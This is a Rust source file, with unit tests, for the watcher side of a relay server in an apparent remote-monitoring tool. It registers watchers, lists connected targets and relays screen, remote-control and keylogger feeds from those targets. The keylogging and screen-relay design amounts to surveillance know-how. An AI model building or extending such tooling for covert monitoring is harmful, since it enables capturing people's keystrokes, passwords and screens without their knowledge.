//! Watcher-side handlers: the primary request loop and component relays.

use std::net::SocketAddr;
use std::sync::Arc;

use spyglass_core::{Action, Component, FramedChannel, Reason, Reply, Role, Side, TargetList};
use tokio_util::sync::CancellationToken;
use tracing::{debug, info};

use crate::acceptor::{read_access_code, reject};
use crate::config::SessionSettings;
use crate::error::HandlerError;
use crate::feeds::FeedState;
use crate::relay::{self, Inbound};
use crate::session::{Attach, Attachment, TargetSession, WatcherSession};
use crate::{PeerStream, ServerContext};

pub async fn serve_primary<S: PeerStream>(
    mut channel: FramedChannel<S>,
    peer: SocketAddr,
    ctx: Arc<ServerContext>,
) -> Result<(), HandlerError> {
    let Some(code) = read_access_code(&mut channel).await? else {
        debug!(%peer, "watcher left before sending its code");
        return Ok(());
    };
    let session = match ctx.registry.register_watcher(code.clone(), &ctx.shutdown) {
        Ok(session) => session,
        Err(reason) => {
            info!(%peer, %code, reason = reason.as_str(), "refusing watcher registration");
            return reject(channel, Role::Watcher, reason).await;
        }
    };
    let guard = PrimaryGuard {
        ctx: ctx.clone(),
        session: session.clone(),
    };
    info!(%peer, %code, "watcher registered");

    let result = match channel.send(&Reply::Ok.encode()).await {
        Ok(()) => serve_requests(&mut channel, &session, &ctx).await,
        Err(err) => Err(err.into()),
    };

    session.mark_primary_gone();
    session.components_detached().await;
    channel.shutdown().await;
    ctx.registry.remove_watcher(&session);
    drop(guard);
    info!(
        %peer,
        %code,
        connected_secs = session.connected_at().elapsed().as_secs(),
        "watcher session closed"
    );
    result
}

async fn serve_requests<S: PeerStream>(
    channel: &mut FramedChannel<S>,
    session: &WatcherSession,
    ctx: &ServerContext,
) -> Result<(), HandlerError> {
    loop {
        let request = tokio::select! {
            _ = session.primary_token().cancelled() => return Ok(()),
            frame = channel.recv() => match frame? {
                Some(payload) if !payload.is_empty() => payload,
                _ => return Ok(()),
            },
        };

        match Action::from_frame(&request)? {
            Action::SendTargetList => {
                let list = TargetList(ctx.registry.target_codes());
                channel.send(&list.encode()?).await?;
            }
            Action::SendConnectedComponents => {
                let Some(target) = read_access_code(channel).await? else {
                    return Ok(());
                };
                let presence = ctx.registry.presence(&target);
                channel.send(&presence.encode()).await?;
            }
            Action::StopWatching => {
                debug!(code = %session.code(), "watcher stopped watching");
                session.stop_watching();
            }
            Action::Disconnect => return Ok(()),
            other => {
                return Err(HandlerError::Protocol(format!(
                    "unsupported watcher request {other:?}"
                )))
            }
        }
    }
}

struct PrimaryGuard {
    ctx: Arc<ServerContext>,
    session: Arc<WatcherSession>,
}

impl Drop for PrimaryGuard {
    fn drop(&mut self) {
        self.session.mark_primary_gone();
        self.ctx.registry.remove_watcher(&self.session);
    }
}

/// Admits a watcher component, gets the target to start the matching
/// component and relays between the two until either side stops.
pub async fn serve_component<S: PeerStream>(
    component: Component,
    mut channel: FramedChannel<S>,
    peer: SocketAddr,
    ctx: Arc<ServerContext>,
) -> Result<(), HandlerError> {
    let role = Role::component_of(Side::Watcher, component);
    let Some(code) = read_access_code(&mut channel).await? else {
        return Ok(());
    };
    let Some(target_code) = read_access_code(&mut channel).await? else {
        return Ok(());
    };

    let Some(watcher) = ctx.registry.live_watcher(&code) else {
        info!(%peer, %code, %component, "watcher component has no primary");
        return reject(channel, role, Reason::MainNotConnected).await;
    };
    let Some(target) = ctx.registry.live_target(&target_code) else {
        info!(%peer, %code, target = %target_code, %component, "watched target is not connected");
        return reject(channel, role, Reason::MainNotConnected).await;
    };
    let slot = match watcher.bind_component(component) {
        Ok(slot) => slot,
        Err(reason) => {
            info!(%peer, %code, %component, reason = reason.as_str(), "refusing watcher component");
            return reject(channel, role, reason).await;
        }
    };
    channel.send(&Reply::Ok.encode()).await?;
    info!(%peer, %code, target = %target_code, %component, "watcher component bound");

    let watch = slot.watch().clone();
    let Some(attachment) = attach(&target, component, &watch, &ctx.settings).await else {
        info!(%code, target = %target_code, %component, "target component never became available");
        channel.shutdown().await;
        return Ok(());
    };

    let (reader, mut writer) = channel.into_split();
    let mut inbound = Inbound::spawn(reader);
    let feed = attachment.feed().clone();
    let stop = feed.stop_token();
    let result = match feed.state() {
        FeedState::Screen(screen) => {
            relay::screen(&mut writer, &mut inbound, screen, stop, &watch, &ctx.settings).await
        }
        FeedState::Controller(queue) => relay::controller(&mut inbound, queue, stop, &watch).await,
        FeedState::Keylogger(keys) => {
            relay::keylogger(&mut writer, &mut inbound, keys, stop, &watch, &ctx.settings).await
        }
    };

    drop(inbound);
    drop(attachment);
    drop(slot);
    writer.shutdown().await;
    info!(%code, target = %target_code, %component, "watcher component closed");
    result
}

/// Asks the target for `component` and waits, bounded, until it is bound
/// and accepting watchers.
async fn attach(
    target: &Arc<TargetSession>,
    component: Component,
    watch: &CancellationToken,
    settings: &SessionSettings,
) -> Option<Attachment> {
    request_start(target, component).await;
    let mut saw_stopping = false;
    for _ in 0..settings.attach_retries {
        match target.attach_watcher(component) {
            Attach::Attached(attachment) => return Some(attachment),
            Attach::PrimaryGone => return None,
            Attach::Stopping => saw_stopping = true,
            Attach::Absent if saw_stopping => {
                // the old component finished stopping; ask for a fresh one
                saw_stopping = false;
                request_start(target, component).await;
            }
            Attach::Absent => {}
        }
        tokio::select! {
            _ = watch.cancelled() => return None,
            _ = tokio::time::sleep(settings.attach_retry_interval) => {}
        }
    }
    None
}

async fn request_start(target: &TargetSession, component: Component) {
    if let Err(err) = target.push_action(component.start_action()).await {
        debug!(code = %target.code(), %component, error = %err, "could not push start action");
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::acceptor::handle_connection;
    use spyglass_core::{AccessCode, ComponentPresence, FrameCodec};
    use std::time::Duration;
    use tokio::io::{duplex, DuplexStream};
    use tokio::time::timeout;

    fn context() -> Arc<ServerContext> {
        Arc::new(ServerContext::new(
            FrameCodec::default(),
            SessionSettings {
                attach_retries: 5,
                attach_retry_interval: Duration::from_millis(10),
                ..SessionSettings::default()
            },
        ))
    }

    fn connect(ctx: &Arc<ServerContext>) -> FramedChannel<DuplexStream> {
        let (client, server) = duplex(64 * 1024);
        tokio::spawn(handle_connection(
            server,
            "127.0.0.1:6000".parse().unwrap(),
            ctx.clone(),
        ));
        FramedChannel::new(client, FrameCodec::default())
    }

    async fn register_watcher(ctx: &Arc<ServerContext>, code: &str) -> FramedChannel<DuplexStream> {
        let mut primary = connect(ctx);
        primary.send(&[Role::Watcher.as_byte()]).await.unwrap();
        primary.send(code.as_bytes()).await.unwrap();
        assert_eq!(primary.recv().await.unwrap().unwrap().as_ref(), b"OK");
        primary
    }

    #[tokio::test]
    async fn duplicate_watcher_is_refused() {
        let ctx = context();
        let _first = register_watcher(&ctx, "XYZ999").await;

        let mut second = connect(&ctx);
        second.send(&[Role::Watcher.as_byte()]).await.unwrap();
        second.send(b"XYZ999").await.unwrap();
        let reply = second.recv().await.unwrap().unwrap();
        assert_eq!(
            Reply::decode(&reply).unwrap(),
            Reply::Rejected(Reason::AlreadyConnected)
        );
        assert_eq!(ctx.registry.watcher_count(), 1);
    }

    #[tokio::test]
    async fn empty_target_list_and_absent_presence() {
        let ctx = context();
        let mut primary = register_watcher(&ctx, "XYZ999").await;

        primary.send(&[Action::SendTargetList.as_byte()]).await.unwrap();
        let list = TargetList::decode(&primary.recv().await.unwrap().unwrap()).unwrap();
        assert!(list.0.is_empty());

        primary
            .send(&[Action::SendConnectedComponents.as_byte()])
            .await
            .unwrap();
        primary.send(b"ABC123").await.unwrap();
        let presence = ComponentPresence::decode(&primary.recv().await.unwrap().unwrap()).unwrap();
        assert_eq!(presence, ComponentPresence::default());
    }

    #[tokio::test]
    async fn unsupported_request_closes_the_primary() {
        let ctx = context();
        let mut primary = register_watcher(&ctx, "XYZ999").await;
        primary.send(&[Action::Wait.as_byte()]).await.unwrap();
        let closed = timeout(Duration::from_secs(1), primary.recv())
            .await
            .unwrap()
            .unwrap();
        assert!(closed.is_none());
        timeout(Duration::from_secs(1), async {
            while ctx.registry.watcher_count() > 0 {
                tokio::time::sleep(Duration::from_millis(5)).await;
            }
        })
        .await
        .expect("registration removed");
    }

    #[tokio::test]
    async fn component_for_unknown_target_is_refused() {
        let ctx = context();
        let _primary = register_watcher(&ctx, "XYZ999").await;

        let mut screen = connect(&ctx);
        screen
            .send(&[Role::WatcherScreenReader.as_byte()])
            .await
            .unwrap();
        screen.send(b"XYZ999").await.unwrap();
        screen.send(b"NOPE").await.unwrap();
        let reply = screen.recv().await.unwrap().unwrap();
        assert_eq!(
            Reply::decode(&reply).unwrap(),
            Reply::Rejected(Reason::MainNotConnected)
        );
        assert!(screen.recv().await.unwrap().is_none());
    }

    #[tokio::test]
    async fn attach_gives_up_when_the_target_never_binds() {
        let ctx = context();
        let (write, _read) = duplex(1024);
        let target = ctx
            .registry
            .register_target(
                AccessCode::from("ABC123"),
                bytes::Bytes::new(),
                spyglass_core::FrameWriter::new(Box::new(write), FrameCodec::default()),
                &ctx.shutdown,
            )
            .ok()
            .unwrap();
        let watch = CancellationToken::new();
        let attached = timeout(
            Duration::from_secs(1),
            attach(&target, Component::Keylogger, &watch, &ctx.settings),
        )
        .await
        .unwrap();
        assert!(attached.is_none());
    }
}
